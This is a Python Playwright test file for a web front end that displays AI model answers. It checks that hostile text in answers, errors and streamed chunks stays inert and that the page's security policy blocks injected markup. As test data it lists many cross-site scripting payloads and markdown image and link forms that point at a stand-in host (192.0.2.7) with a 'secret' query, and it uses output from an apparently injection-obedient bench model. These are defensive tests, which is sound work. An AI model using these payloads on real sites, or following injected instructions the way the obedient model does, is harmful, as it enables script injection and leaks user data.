"""Hostile text at the page stays text, and the browser holds the line behind it."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Final

import pytest

from bench.obedient import WORDINGS, Obedient, cases
from egress.answer import MAX_QUESTION
from egress.prompt import build_prompt, new_delimiter
from redaction.types import Redacted
from tests.pages.reader import ask, settle, text_of, unfold
from tests.pages.stand_in import event, problem, reply_of, whole

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.pages.stand_in import StandIn

SCRIPTS: Final = (
    "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>", '"><img src=x onerror=window.hacked=1>',
    "'-window.hacked=1-'", "</pre></details><iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<details open ontoggle=window.hacked=1>", "<a href='javascript:window.hacked=1'>x</a>",
    "<math><mtext><style><img src onerror=window.hacked=1>", "<body onload=window.hacked=1>",
    "<base href='//192.0.2.7/'>", "<meta http-equiv=refresh content='0;url=http://192.0.2.7/'>",
    "<form action=http://192.0.2.7><button>x", "<link rel=stylesheet href=http://192.0.2.7/x.css>",
    "<style>@import 'http://192.0.2.7/x.css'</style>", "<object data=http://192.0.2.7/x>", "<embed src=//192.0.2.7/x>",
    "<video poster=//192.0.2.7/x><source onerror=window.hacked=1>", "<template><script>window.hacked=1</script>",
    "&lt;img src=x onerror=window.hacked=1&gt;", "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}", "<scr\0ipt>window.hacked=1</script>", "\u202e<script>window.hacked=1</script>\u202c",
    "]]><script>window.hacked=1//", "<!--><script>window.hacked=1</script-->",
    "<xmp><p title='</xmp><svg/onload=window.hacked=1>'>",
)  # fmt: skip
SYNTAX: Final = (
    "![x]({})", "[x]({})", "![x][r]\n\n[r]: {}", "<{}>", "<img src={}>", "<a href='{}'>x</a>", "[![x]({0})]({0})",
    "&#x21;&#x5b;x&#x5d;({})", "![x](<{}>)", "![x]({} 'title')", "[x]: {}", "`{}`", "<svg><image href={} /></svg>",
    "![a![b]({})](c)",
)  # fmt: skip
ADDRESSES: Final = (
    "http://192.0.2.7/?q=secret", "//192.0.2.7/?q=secret", "javascript:window.hacked=1",
    "data:text/html,<script>1</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "JaVaScRiPt&colon;window.hacked=1", "\\\\192.0.2.7\\share",
    "http:192.0.2.7/x", "ftp://192.0.2.7/x", "/api/v1/ask?x", "%68ttp://192.0.2.7", "http://192.0.2.7%2f@127.0.0.1/",
    "wss://192.0.2.7/", "blob:http://192.0.2.7/x", "http://192.0.2.7/[1]",
)  # fmt: skip
LINKS: Final = tuple(form.format(address) for form, address in itertools.product(SYNTAX, ADDRESSES))
OUR_ELEMENTS: Final = frozenset(
    {
        "LI", "H2", "H3", "DIV", "P", "UL", "SECTION", "DETAILS", "SUMMARY", "SPAN", "DL", "DT", "DD", "PRE", "MARK",
        "BLOCKQUOTE", "BUTTON",
    }
)  # fmt: skip


def elements_of(page: Page) -> set[str]:
    return set(page.eval_on_selector_all("#turns *", "all => all.map(it => it.tagName)"))


@pytest.mark.parametrize("texts", [SCRIPTS, LINKS], ids=["scripts", "links"])
def test_hostile_text_is_shown_as_text_wherever_it_stands(page: Page, service: StandIn, texts: tuple[str, ...]) -> None:
    """PI-01, PI-08: no element but ours, no request, no script; the page fixture looks for the last two."""
    service.body, service.cut = whole(reply_of(texts)), 4096
    everything = "\n".join(texts)
    ask(page, everything[:MAX_QUESTION].strip())
    settle(page)
    assert [text_of(page, place) for place in (".answer", "pre")] == [everything, everything]
    for place in (".source .title", ".source blockquote", ".warnings li"):
        assert page.locator(place).all_text_contents() == list(texts)
    assert text_of(page, ".went") == f"Sent to {everything}"
    assert elements_of(page) <= OUR_ELEMENTS
    unfold(page)
    page.locator(".marker, .answer").first.click()


def test_what_an_obedient_model_writes_makes_no_request_even_unchecked(page: Page, service: StandIn) -> None:
    """PI-01: each channel of the bench, before the output check has seen it."""
    one_each = {case.texts[-2]: case for case in cases(WORDINGS[:1]) if case.position == "before the text"}
    drafts = [
        Obedient().complete(build_prompt(Redacted(case.texts, {}), new_delimiter())) for case in one_each.values()
    ]
    assert len(drafts) > 20
    service.body, service.cut = whole(reply_of(tuple(draft.text for draft in drafts))), 4096
    ask(page)
    settle(page)
    assert text_of(page, ".answer") == "\n".join(draft.text for draft in drafts)
    assert elements_of(page) <= OUR_ELEMENTS


def test_hostile_text_in_an_error_is_shown_as_text(page: Page, service: StandIn) -> None:
    """PI-08."""
    everything = "\n".join(SCRIPTS)
    service.body, service.status = problem(500, everything, everything), 500
    ask(page)
    assert page.locator(".problem p").nth(1).text_content() == everything
    assert elements_of(page) <= OUR_ELEMENTS
    service.body, service.status = problem(401, detail=everything), 401
    ask(page)
    page.get_by_label("API key").wait_for()
    assert text_of(page, "#key-error") == everything


@pytest.mark.parametrize("text", ["<img src=x onerror=window.hacked=1>", "<script>window.hacked=1</script>é😀"])
def test_text_cut_at_any_byte_stays_text_while_it_streams(page: Page, service: StandIn, text: str) -> None:
    """PI-09."""
    halves = [half for cut in range(len(text)) for half in (text[:cut], text[cut:])]
    service.body = b"".join(event("delta", {"text": piece}) for piece in [*halves, *text, " end"])
    service.cut, service.held = 1, True
    ask(page)
    page.locator(".answer").get_by_text("end").wait_for()
    assert text_of(page, ".answer") == text * (len(text) + 1) + " end"
    assert elements_of(page) <= OUR_ELEMENTS


def test_the_browser_itself_refuses_what_the_page_never_does(browser: Browser, page: Page) -> None:
    """PI-02: should a slip ever put markup into the page, the policy still stops it."""
    expected = [
        "img-src", "style-src-elem", "frame-src", "form-action", "base-uri", "connect-src",
        "handler", "script", "markup",
    ]  # fmt: skip
    other = browser.new_page()
    other.goto(page.url)
    other.evaluate(
        """() => {
             window.seen = new Set();
             document.addEventListener("securitypolicyviolation", (it) => seen.add(it.effectiveDirective));
             const add = (tag, attributes) => {
               const made = document.createElement(tag);
               for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
               return document.body.appendChild(made);
             };
             const refused = (name, act) => { try { act(); } catch { seen.add(name); } };
             add("img", { src: "http://192.0.2.7/?q=secret" });
             add("link", { rel: "stylesheet", href: "http://192.0.2.7/x.css" });
             add("iframe", { src: "http://192.0.2.7/" });
             add("form", { action: "http://192.0.2.7/" }).submit();
             add("base", { href: "http://192.0.2.7/" });
             fetch("http://192.0.2.7/").catch(() => null);
             refused("handler", () => add("div", { onclick: "window.hacked = 1" }).click());
             refused("script", () => { add("script", {}).textContent = "window.hacked = 1"; });
             refused("markup", () => { document.body.innerHTML = "<img src=x onerror=window.hacked=1>"; });
           }"""
    )
    other.wait_for_function("(names) => names.every((name) => seen.has(name))", arg=expected, timeout=8000)
    assert other.evaluate("window.hacked") is None
    assert other.url == page.url
    other.context.close()
